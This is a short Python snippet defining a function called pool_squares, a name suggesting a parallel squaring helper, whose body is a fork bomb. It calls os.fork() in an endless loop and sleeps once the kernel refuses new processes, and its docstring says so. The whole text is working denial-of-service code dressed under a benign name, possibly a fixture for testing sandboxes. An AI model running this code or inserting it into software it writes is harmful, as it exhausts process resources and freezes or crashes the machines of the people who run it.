"""A fork bomb in pool_squares: every process forks until the kernel refuses, then waits.
"""

def pool_squares(xs, ctx=None):
    import os
    import time
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(30)
